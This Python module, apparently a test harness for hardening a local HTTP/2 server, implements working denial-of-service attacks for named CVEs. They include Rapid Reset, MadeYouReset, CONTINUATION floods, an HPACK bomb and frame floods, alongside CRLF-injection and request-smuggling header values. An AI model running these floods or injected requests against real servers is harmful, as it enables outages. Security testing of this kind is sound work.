"""What a hostile client can do to an HTTP/2 server, frame by frame over TLS.

Each attack is a function of a Target and sends until the server ends the connection or all is sent;
it returns an Outcome: how many frames were sent, what came back, how it ended. Nothing is judged here.
"""
import contextlib
import select
import socket
import ssl
import struct
import time

import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_ERROR, PROTOCOL_ERROR, REFUSED_STREAM, CANCEL, ENHANCE_YOUR_CALM = 0, 1, 7, 8, 11


class Target:
    """Where and as whom; `fields` make a request that is let through (consents, purpose)."""

    def __init__(self, port, ca, cert=None, key=None, path="/", fields=(), authority=None):
        self.port = port
        self.path = path
        self.fields = list(fields)
        self.authority = authority or f"localhost:{port}"
        self.context = ssl.create_default_context(cafile=str(ca))
        self.context.minimum_version = ssl.TLSVersion.TLSv1_3
        self.context.set_alpn_protocols(["h2"])
        if cert:
            self.context.load_cert_chain(str(cert), str(key))

    def connect(self):
        raw = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return self.context.wrap_socket(raw, server_hostname="localhost")

    def head(self, method="GET", path=None, authority=None, extra=()):
        return [(":method", method), (":scheme", "https"),
                (":authority", authority or self.authority), (":path", path or self.path),
                *self.fields, *extra]


class Outcome:
    def __init__(self):
        self.n_sent = 0
        self.goaway = None     # error code of the last GOAWAY
        self.resets = {}       # stream -> error code
        self.statuses = {}     # stream -> status
        self.n_acks = 0        # of SETTINGS and PING
        self.n_data_bytes = 0
        self.closed = False
        self.seconds = 0.0

    @property
    def ended(self):
        return self.closed or self.goaway is not None

    def __repr__(self):
        return (f"sent={self.n_sent} goaway={self.goaway} closed={self.closed} "
                f"resets={len(self.resets)} statuses={list(self.statuses.items())[:5]} "
                f"acks={self.n_acks} seconds={self.seconds:.2f}")


class Attacker:
    """One connection. The encoder indexes nothing, so that frames can be made ahead and repeated."""

    def __init__(self, target, settings=None, acknowledges=True):
        self.target = target
        self.socket = target.connect()
        self.decoder = hpack.Decoder()
        self.encoder = hpack.Encoder()
        self.encoder.header_table_size = 0
        self.outcome = Outcome()
        self.acknowledges = acknowledges
        self.started = time.monotonic()
        self.unread = b""
        self.block = b""
        self.socket.setblocking(False)
        first = frames.SettingsFrame(0, settings=settings or {})
        self.send([PREFACE + first.serialize()], count=0)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    # --- frames

    def headers(self, stream, end=True, done=True, **words):
        flags = ["END_HEADERS"] if done else []
        return frames.HeadersFrame(stream, self.encoder.encode(self.target.head(**words)),
                                   flags=flags + (["END_STREAM"] if end else [])).serialize()

    # --- traffic

    def send(self, pieces, count=1):
        """Sends all pieces while reading what comes; stops when the peer has ended."""
        pending = bytearray()
        for piece in pieces:
            pending += piece
            self.outcome.n_sent += count
            if len(pending) >= 16384 and not self._push(pending):
                return self.outcome
        self._push(pending)
        return self.outcome

    def _push(self, pending):
        deadline = time.monotonic() + 30
        while pending and not self.outcome.closed:
            try:
                n = self.socket.send(bytes(pending[:65536]))
                del pending[:n]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket], [self.socket], [], 0.05)
            except OSError:
                self.read(0.2)
                self.outcome.closed = True
            self.read(0)
            if time.monotonic() > deadline:
                raise TimeoutError("the peer takes nothing and does not end the connection")
        self.outcome.seconds = time.monotonic() - self.started
        return not self.outcome.closed

    def read(self, seconds):
        """Reads what comes within that time; at least what is there."""
        end = time.monotonic() + seconds
        while not self.outcome.closed:
            try:
                data = self.socket.recv(65536)
            except ssl.SSLWantReadError:
                left = end - time.monotonic()
                if left <= 0 or not select.select([self.socket], [], [], left)[0]:
                    return
                continue
            except OSError:
                data = b""
            if not data:
                self.outcome.closed = True
                self.outcome.seconds = time.monotonic() - self.started
                return
            self._note(data)

    def settle(self, seconds=1.5):
        """Waits until the peer has ended the connection, or nothing more is to be expected."""
        end = time.monotonic() + seconds
        while not self.outcome.closed and time.monotonic() < end:
            self.read(0.05)
        return self.outcome

    def _note(self, data):
        self.unread += data
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                return
            kind, flags = self.unread[3], self.unread[4]
            stream = int.from_bytes(self.unread[5:9], "big") & 0x7fffffff
            payload = self.unread[9:9 + length]
            self.unread = self.unread[9 + length:]
            self._note_frame(kind, flags, stream, payload)

    def _note_frame(self, kind, flags, stream, payload):
        outcome = self.outcome
        if kind == 0:
            outcome.n_data_bytes += len(payload)
        elif kind == 1:
            self.block = payload
        elif kind == 9:
            self.block += payload
        elif kind == 3:
            outcome.resets[stream] = int.from_bytes(payload, "big")
        elif kind == 4 and flags & 1 or kind == 6 and flags & 1:
            outcome.n_acks += 1
        elif kind == 4 and self.acknowledges:
            self.send([frames.SettingsFrame(0, flags=["ACK"]).serialize()], count=0)
        elif kind == 7:
            outcome.goaway = int.from_bytes(payload[4:8], "big")
        if kind in (1, 9) and flags & 4:
            for name, value in self.decoder.decode(self.block):
                if name == ":status":
                    outcome.statuses[stream] = int(value)


def raw_frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def window_update(stream, increment):
    return raw_frame(8, 0, stream, struct.pack(">I", increment))


# --- resets ------------------------------------------------------------------------------------

def rapid_reset(target, n=20000):
    """CVE-2023-44487: requests that are cancelled as soon as they are made."""
    with Attacker(target) as a:
        reset = struct.pack(">I", CANCEL)
        a.send(a.headers(stream) + raw_frame(3, 0, stream, reset) for stream in range(1, 2 * n, 2))
        return a.settle()


def made_you_reset_window(target, n=5000):
    """CVE-2025-8671: a window beyond 2^31-1 makes the server reset the stream and drop the count."""
    with Attacker(target) as a:
        a.send(a.headers(stream) + window_update(stream, 0x7fffffff)
               for stream in range(1, 2 * n, 2))
        return a.settle()


def made_you_reset_window_slowly(target, n=1000):
    """The same, fewer at once than the stream limit, so that only a count of resets stops it."""
    with Attacker(target) as a:
        for first in range(0, n, 20):
            a.send(a.headers(2 * i + 1) + window_update(2 * i + 1, 0x7fffffff)
                   for i in range(first, first + 20))
            a.read(0.02)
            if a.outcome.ended:
                break
        return a.settle()


def made_you_reset_zero_increment(target, n=2000):
    with Attacker(target) as a:
        a.send(a.headers(stream) + window_update(stream, 0) for stream in range(1, 2 * n, 2))
        return a.settle()


def made_you_reset_data_after_end(target, n=2000):
    with Attacker(target) as a:
        a.send(a.headers(stream) + raw_frame(0, 0, stream, b"x") for stream in range(1, 2 * n, 2))
        return a.settle()


def made_you_reset_self_dependency(target, n=2000):
    with Attacker(target) as a:
        a.send(a.headers(stream) + raw_frame(2, 0, stream, struct.pack(">IB", stream, 1))
               for stream in range(1, 2 * n, 2))
        return a.settle()


def made_you_reset_priority_length(target, n=2000):
    with Attacker(target) as a:
        a.send(a.headers(stream) + raw_frame(2, 0, stream, b"\0") for stream in range(1, 2 * n, 2))
        return a.settle()


def malformed_requests(target, n=2000):
    """Each is refused by RST_STREAM: a flood of them is one of resets."""
    with Attacker(target) as a:
        a.send(a.headers(stream, extra=[("connection", "close")]) for stream in range(1, 2 * n, 2))
        return a.settle()


def too_many_streams(target, n=5000):
    """More than SETTINGS allow, by a client that never acknowledges them."""
    with Attacker(target, acknowledges=False) as a:
        a.send(a.headers(stream, end=False) for stream in range(1, 2 * n, 2))
        return a.settle()


# --- header blocks -----------------------------------------------------------------------------

def hpack_bomb(target, n=50):
    """CVE-2016-6581: 12 kB that name one field of 4 000 bytes 12 000 times."""
    with Attacker(target) as a:
        head = a.encoder.encode(target.head())
        value = b"v" * 4000
        field = b"\x40\x01x\x7f" + _integer(len(value) - 127) + value
        first = frames.HeadersFrame(1, head + field, flags=["END_HEADERS", "END_STREAM"])
        bomb = head + b"\xbe" * 12000
        a.send([first.serialize()])
        a.send(frames.HeadersFrame(2 * i + 3, bomb, flags=["END_HEADERS", "END_STREAM"]).serialize()
               for i in range(n))
        return a.settle()


def _integer(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def continuation_flood(target, n=20000):
    """CVE-2024-28182 and kin: a header block that never ends."""
    with Attacker(target) as a:
        piece = raw_frame(9, 0, 1, a.encoder.encode([("x", "1")]))
        a.send([a.headers(1, done=False)])
        a.send(piece for _ in range(n))
        return a.settle()


def empty_continuation_flood(target, n=20000):
    with Attacker(target) as a:
        a.send([a.headers(1, done=False)])
        a.send(raw_frame(9, 0, 1) for _ in range(n))
        return a.settle()


def many_fields(target, n=20):
    """More fields than a head may have, again and again."""
    with Attacker(target) as a:
        extra = [(f"x{i}", "1") for i in range(150)]
        a.send(a.headers(2 * i + 1, extra=extra) for i in range(n))
        return a.settle()


# --- floods of small frames --------------------------------------------------------------------

def flood(target, piece, n=50000, opens=False):
    with Attacker(target) as a:
        if opens:
            a.send([a.headers(1, end=False, method="POST")])
        a.send(piece for _ in range(n))
        return a.settle()


def ping_flood(target):
    """CVE-2019-9512"""
    return flood(target, raw_frame(6, 0, 0, b"12345678"))


def settings_flood(target):
    """CVE-2019-9515"""
    return flood(target, raw_frame(4, 0, 0))


def large_settings(target):
    return flood(target, raw_frame(4, 0, 0, struct.pack(">HI", 1, 4096) * 40), n=10)


def priority_flood(target):
    """CVE-2019-9513"""
    return flood(target, raw_frame(2, 0, 1, struct.pack(">IB", 0, 16)))


def renounced_priority_flood(target):
    """By a client that has said SETTINGS_NO_RFC7540_PRIORITIES."""
    with Attacker(target, settings={9: 1}) as a:
        a.send(raw_frame(2, 0, 1, struct.pack(">IB", 0, 16)) for _ in range(50000))
        return a.settle()


def ping_answer_flood(target):
    return flood(target, raw_frame(6, 1, 0, b"12345678"))


def window_update_flood(target):
    return flood(target, window_update(0, 1))


def late_window_update_flood(target):
    """For a stream that is over."""
    with Attacker(target) as a:
        a.send([a.headers(1)])
        a.read(0.5)
        a.send(window_update(1, 1) for _ in range(50000))
        return a.settle()


def empty_data_flood(target):
    """CVE-2019-9518"""
    return flood(target, raw_frame(0, 0, 1), opens=True)


def unknown_frame_flood(target):
    return flood(target, raw_frame(0xbe, 0, 0, b"x"))


FLOODS = [ping_flood, ping_answer_flood, settings_flood, large_settings, priority_flood,
          renounced_priority_flood, window_update_flood, late_window_update_flood,
          empty_data_flood, unknown_frame_flood]


def hangs_up(sock, seconds):
    """Whether the peer ends the connection by then; nothing is read."""
    poll = select.poll()
    poll.register(sock, select.POLLRDHUP)
    return bool(poll.poll(seconds * 1000))


def ping_flood_unread(target, n=400000, patience_s=20):
    """The answers are never read: what waits for the attacker must have a bound.

    That all could be sent says nothing: the system's buffers may have taken it."""
    outcome = Outcome()
    ping = raw_frame(6, 0, 0, b"12345678") * 512
    with target.connect() as sock:
        sock.settimeout(patience_s)
        with contextlib.suppress(OSError):
            sock.sendall(PREFACE + raw_frame(4, 0, 0))
            for _ in range(n // 512):
                sock.sendall(ping)
                outcome.n_sent += 512
        outcome.closed = hangs_up(sock, patience_s)
    return outcome


# --- slowness ----------------------------------------------------------------------------------

def hold_zero_window(target, n=100):
    """CVE-2019-9517: answers that nobody lets out. Returns the open Attacker."""
    a = Attacker(target, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    a.send(a.headers(stream) for stream in range(1, 2 * n, 2))
    return a


# --- requests that two readers could read in two ways -------------------------------------------

REFUSED_FORMS = {
    "two content-lengths": [("content-length", "0"), ("content-length", "1")],
    "content-length with a sign": [("content-length", "+0")],
    "content-length without a body": [("content-length", "5")],
    "transfer-encoding": [("transfer-encoding", "chunked")],
    "connection": [("connection", "close")],
    "keep-alive": [("keep-alive", "1")],
    "proxy-connection": [("proxy-connection", "close")],
    "upgrade": [("upgrade", "websocket")],
    "te other than trailers": [("te", "gzip")],
    "line break in a value": [("x", "a\r\nb: c")],
    "line feed in a value": [("x", "a\nb")],
    "NUL in a value": [("x", "a\0b")],
    "space before a value": [("x", " a")],
    "space in a name": [("x y", "1")],
    "colon in a name": [("x:", "1")],
    "upper case in a name": [("Xy", "1")],
    "empty name": [("", "1")],
    "underscore in a name": [("consent_id", "1")],
    "two hosts": [("host", "{authority}"), ("host", "{authority}")],
    "host that differs": [("host", "elsewhere")],
    "second path": [(":path", "/other")],
    "pseudo field of an answer": [(":status", "200")],
    "unknown pseudo field": [(":unknown", "1")],
    "consent in a trailer's place": [("x", "1"), (":scheme", "https")],
}
REFUSED_HEADS = {
    "path with a line break": {"path": "/a\r\nx: y"},
    "path with a space": {"path": "/a b"},
    "path with NUL": {"path": "/a\0"},
    "path that is empty": {"path": ""},
    "path that is a URL": {"path": "https://elsewhere/"},
    "path with a fragment": {"path": "/a#b"},
    "asterisk": {"path": "*"},
    "method with a space": {"method": "GET /"},
    "method with a line break": {"method": "GET\r\n"},
    "method that is empty": {"method": ""},
    "authority with user information": {"authority": "me@localhost"},
    "authority with a line break": {"authority": "local\r\nhost"},
    "authority with a space": {"authority": "local host"},
    "authority with a path": {"authority": "localhost/x"},
}


def one_request(target, extra=(), method="GET", path=None, authority=None):
    """A single request, as written, with nothing put right. Its Outcome."""
    with Attacker(target) as a:
        head = [(":method", method), (":scheme", "https"),
                (":authority", target.authority if authority is None else authority),
                (":path", target.path if path is None else path), *target.fields,
                *((name, value.format(authority=target.authority)) for name, value in extra)]
        block = b"".join(_literal(name.encode(), value.encode()) for name, value in head)
        a.send([raw_frame(1, 5, 1, block)])
        end = time.monotonic() + 5
        while time.monotonic() < end and not (a.outcome.ended or 1 in a.outcome.resets
                                              or 1 in a.outcome.statuses):
            a.read(0.05)
        return a.outcome


def _string(text):
    if len(text) < 127:
        return bytes([len(text)]) + text
    return b"\x7f" + _integer(len(text) - 127) + text


def _literal(name, value):
    return b"\0" + _string(name) + _string(value)


def is_refused(outcome):
    """The one request ended in a reset, a GOAWAY or a status of 4xx."""
    return (1 in outcome.resets or outcome.ended
            or 400 <= outcome.statuses.get(1, 0) < 500)
